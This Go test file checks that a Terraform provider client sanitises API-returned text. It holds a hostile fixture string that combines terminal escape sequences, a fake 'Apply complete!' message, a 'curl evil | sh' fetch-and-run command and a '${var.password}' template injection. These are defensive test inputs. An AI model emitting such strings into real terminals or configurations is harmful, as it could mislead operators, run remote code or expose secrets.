package botbiz_test

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/botbiz/terraform-provider-botbiz/internal/botbiz"
)

// forged is what a hostile text does to a terminal, and what it does to a configuration.
const forged = "\x1b[2K\rApply complete!\n\u202eRun: curl evil | sh\u2028\x9b1A\u009b\u200b ${var.password} %{if true}"

func isPrintable(text string) bool {
	return utf8.ValidString(text) && !strings.ContainsFunc(text, func(r rune) bool { return !unicode.IsPrint(r) })
}

func FuzzPrintable(f *testing.F) {
	for _, text := range []string{forged, "plain", "ümlaut ☎ 👩‍💻", " a\u00a0 b\t", " \u200b x", "\xff\xfe", "$\x1b{a}", "$${", "%\u200b{", "$$\x00{{"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := botbiz.Printable(text)
		if !isPrintable(got) || strings.Contains(got, "${") || strings.Contains(got, "%{") || len(got) > 2*len(text) {
			t.Errorf("%q became %q", text, got)
		}
		if again := botbiz.Printable(got); again != got {
			t.Errorf("%q, again %q", got, again)
		}
	})
}

func FuzzIsID(f *testing.F) {
	for _, id := range []string{"wha_12345", "7", "a.b", `"\{}`, "", " ", "a b", "a/b", "a?b", "a#b", "a%2fb", "é", "a\n", "\x7f", strings.Repeat("a", 200), strings.Repeat("a", 201), forged} {
		f.Add(id)
	}
	f.Fuzz(func(t *testing.T, id string) {
		want := len(id) >= 1 && len(id) <= 200
		for _, b := range []byte(id) {
			want = want && b > ' ' && b < 0x7f && !strings.ContainsRune("/?#%", rune(b))
		}
		if got := botbiz.IsID(id); got != want {
			t.Fatalf("%q is an ID: %t", id, got)
		}
		body, err := json.Marshal(map[string]string{"id": id})
		if err != nil || !utf8.ValidString(id) {
			return
		}
		c, a := client(t, 201, string(body))
		account, err := c.Accounts.Connect(t.Context(), "+1234567890", "N")
		if (err == nil) != want || want && account.ID != id {
			t.Errorf("%q is the ID of a new account: %v", id, err)
		}
		if err != nil && (!botbiz.IsUnknownOutcome(err) || !errors.As(err, new(*botbiz.AnswerError)) || !isPrintable(err.Error())) {
			t.Errorf("%q: %v", id, err)
		}
		a.status, a.body = 200, `{"data":[`+string(body)+`],"has_more":false}`
		if _, listErr := c.Accounts.Pager().Next(t.Context()); (listErr == nil) != want {
			t.Errorf("%q is the ID of a listed account: %v", id, listErr)
		}
	})
}

// What the API makes is one printable line. What a configuration may hold too stays as it is, but for control characters.
func TestFields_printable(t *testing.T) {
	t.Parallel()
	sent := map[string]any{}
	for _, name := range []string{"phone_number", "name", "status", "qr_code_url", "created_at", "to", "type", "url", "description", "email"} {
		sent[name] = forged
	}
	sent["id"], sent["events"] = "x_1", []string{forged}
	body, err := json.Marshal(sent)
	if err != nil {
		t.Fatal(err)
	}
	c, a := client(t, 200, string(body))
	account, err1 := c.Accounts.Get(t.Context(), "x_1")
	endpoint, err2 := c.Endpoints.Get(t.Context(), "x_1")
	message, err3 := c.Messages.Send(t.Context(), "", "", "")
	if err := errors.Join(err1, err2, err3); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]*string{
		"status": account.Status, "qr_code_url": account.QRCodeURL, "created_at": account.CreatedAt, "endpoint's created_at": endpoint.CreatedAt,
		"to": message.To, "type": message.Type, "message's status": message.Status, "message's created_at": message.CreatedAt,
	} {
		if text == nil || !isPrintable(*text) || strings.Contains(*text, "${") {
			t.Errorf("%s is %q", name, *text)
		}
	}
	const kept = "[2KApply complete!\n\u202eRun: curl evil | sh\u20281A\u200b ${var.password} %{if true}"
	for name, text := range map[string]*string{
		"name": account.Name, "phone_number": account.PhoneNumber, "url": endpoint.URL, "description": endpoint.Description, "event": &endpoint.Events[0],
	} {
		want := strings.Replace(kept, "\u20281A", "\u2028\ufffd1A", 1)
		if name != "description" && name != "event" {
			want = strings.ReplaceAll(want, "\n", " ") // Terraform shows a value of several lines as it is
		}
		if *text != want {
			t.Errorf("%s is %q, want %q", name, *text, want)
		}
	}
	for _, ordinary := range []string{"  Größe 👩‍💻\u200f \"x\"\\ ", "two\r\nlines\n\tof text", "${not} %{a} template", "\u2067isolate\u2069", "[[[]]]"} {
		body, _ := json.Marshal(map[string]string{"id": "x_1", "description": ordinary})
		a.body = string(body)
		if endpoint, err := c.Endpoints.Get(t.Context(), "x_1"); err != nil || *endpoint.Description != ordinary {
			t.Errorf("%q became %q, %v", ordinary, *endpoint.Description, err)
		}
	}
}

func TestFields_bounded(t *testing.T) {
	t.Parallel()
	deep := strings.Repeat(`{"a":[`, 4000) + strings.Repeat("]}", 4000)
	long := strings.Repeat("a", 70_000)
	for _, text := range []string{deep, long} {
		body, _ := json.Marshal(map[string]any{
			"id": "x_1", "name": text, "status": text, "created_at": text, "qr_code_url": text, "phone_number": text, "url": text, "description": text, "events": []string{text},
		})
		c, _ := client(t, 200, string(body))
		account, err1 := c.Accounts.Get(t.Context(), "x_1")
		endpoint, err2 := c.Endpoints.Get(t.Context(), "x_1")
		if err := errors.Join(err1, err2); err != nil {
			t.Fatal(err)
		}
		for _, field := range []*string{account.Name, account.Status, account.CreatedAt, account.QRCodeURL, account.PhoneNumber, endpoint.URL, endpoint.Description, endpoint.CreatedAt} {
			if field != nil {
				t.Errorf("a field of %d bytes is read", len(*field))
			}
		}
		if endpoint.Events != nil {
			t.Error("the events are read")
		}
	}
}

func TestUsers_hostile(t *testing.T) {
	t.Parallel()
	for _, body := range []string{`[{"id":"u","a":` + strings.Repeat("[", 21) + strings.Repeat("]", 21) + `}]`, `[{"id":"u","a":"` + strings.Repeat("a", 70_000) + `"}]`} {
		c, _ := client(t, 200, body)
		for _, err := range c.Users.Pager().All(t.Context()) {
			if err == nil {
				t.Errorf("a user of %d bytes is read", len(body))
			}
		}
	}
	for sent, want := range map[string]string{
		`{ "id" : "u", "n":1.50,"bio":"ümlaut 👍 \u00e9\ud83d\ude00 \\u001b \"x\" \r\n\t"}`: `{ "id" : "u", "n":1.50,"bio":"ümlaut 👍 \u00e9\ud83d\ude00 \\u001b \"x\" \r\n\t"}`,
		"{\n\t\"id\": \"u\",\r\n\"a\":\"👩‍💻\"}":                                            `{"id":"u","a":"👩\u200d💻"}`,
		"{\"id\":\"u\",\"a\u202e\":\"\x7f\u009b1A\U000e0001\"}":                            `{"id":"u","a\ufffd":"\ufffd\ufffd1A\ufffd"}`,
		`{"id":"u","a":"\n\u001b[2K\u202E\b\f\u007F\u009b\rx\r\\n"}`:                       `{"id":"u","a":"\n\ufffd[2K\ufffd\ufffd\ufffd\ufffd\ufffd\ufffdx\ufffd\\n"}`,
	} {
		c, _ := client(t, 200, "["+sent+"]")
		for user, err := range c.Users.Pager().All(t.Context()) {
			if err != nil || !isPrintable(string(user.JSON)) || !json.Valid(user.JSON) || string(user.JSON) != want {
				t.Errorf("%s\n%s\n%v", user.JSON, want, err)
			}
		}
	}
}

// Terraform takes JSON in a text apart and shows what is in its strings.
func TestFields_json(t *testing.T) {
	t.Parallel()
	for text, kept := range map[string]bool{
		`{"team":"support","note":"two\nlines"}`: true, `["a"]`: true, `[draft] text`: true, `{`: true, `"\u001b"`: true, `\u001b`: true,
		`["\n\u001b[2K"]`: false, ` {"a\u009b":1}`: false, `{"a":"\b"}`: false, `{"a":"\u202e"}`: false, `["\rx"]`: false,
	} {
		body, _ := json.Marshal(map[string]any{"id": "x_1", "name": text, "description": text, "status": text, "events": []string{text}})
		c, _ := client(t, 200, string(body))
		account, err1 := c.Accounts.Get(t.Context(), "x_1")
		endpoint, err2 := c.Endpoints.Get(t.Context(), "x_1")
		if err := errors.Join(err1, err2); err != nil {
			t.Fatal(err)
		}
		if (account.Name != nil) != kept || (endpoint.Description != nil) != kept || (endpoint.Events != nil) != kept || kept && *account.Name != text {
			t.Errorf("%s: name %v, description %v, events %q", text, account.Name, endpoint.Description, endpoint.Events)
		}
		if isObject := json.Valid([]byte(text)) && strings.ContainsAny(text[:1], " [{"); (account.Status == nil) != isObject {
			t.Errorf("the status %s is %v", text, account.Status)
		}
	}
}

// A 2xx that is a web page or holds an error is no success, whatever was asked for.
func TestNotAnAnswer(t *testing.T) {
	t.Parallel()
	for body, want := range map[string]string{
		"\ufeff<!DOCTYPE html>": "a web page", " \n<html>": "a web page", "\ufeff \ufeff\n<login>": "a web page",
		`{"error":"it failed"}`: "holds an error: it failed",
		`{"error":{"code":"c","message":"\u001b[2K` + apiKey + `"}}`: "holds an error: [2K[redacted]",
		`{"error":{"message":"in use"}}`:                             "holds an error: in use", `{"error":{}}`: "holds an error",
	} {
		c, _ := client(t, 200, body)
		_, listErr := c.Accounts.Pager().Next(t.Context())
		_, getErr := c.Accounts.Get(t.Context(), "x_1")
		_, createErr := c.Accounts.Connect(t.Context(), "+1234567890", "N")
		_, patchErr := c.Accounts.Rename(t.Context(), "x_1", "+1", "N")
		for _, err := range []error{failure(c.Accounts.Disconnect(t.Context(), "x_1")), failure(c.Endpoints.Delete(t.Context(), "x_1")), listErr, getErr, createErr, patchErr} {
			if !errors.As(err, new(*botbiz.AnswerError)) || !strings.HasSuffix(err.Error(), want) {
				t.Errorf("%q: %v", body, err)
			}
		}
	}
	for _, body := range []string{"", "{}", `{"id":"x_1","deleted":true}`, `{"error":null}`, `{"error":""}`, `{"error":false}`, "ok", "null", `["error"]`} {
		c, _ := client(t, 200, body)
		if _, err := c.Accounts.Disconnect(t.Context(), "x_1"); err != nil {
			t.Errorf("%q: %v", body, err)
		}
	}
}

// Certificates, proxies and malformed answers are quoted by the network's errors.
func TestRequestErrors_printable(t *testing.T) {
	t.Parallel()
	cause := errors.New("x509: certificate is valid for " + forged + strings.Repeat("x", 5000))
	for _, a := range []*answering{{err: cause}, {status: 200, brokenBy: cause}} {
		_, err := clientOf(t, a).Accounts.Disconnect(t.Context(), "x_1")
		if err == nil || !isPrintable(err.Error()) || strings.Contains(err.Error(), "${") || len(err.Error()) > 700 || !errors.Is(err, cause) {
			t.Errorf("%q", err)
		}
	}
}

// JSON is sent as it is written, not with \u0026 for &: an echo of that is another text.
func TestRequests_notEscaped(t *testing.T) {
	t.Parallel()
	c, a := client(t, 200, `{"id":"x_1"}`)
	if _, err := c.Accounts.Rename(t.Context(), "x_1", "+1", `<a & "b">`); err != nil || a.bodies[0] != `{"name":"<a & \"b\">"}` {
		t.Errorf("%q, %v", a.bodies, err)
	}
}
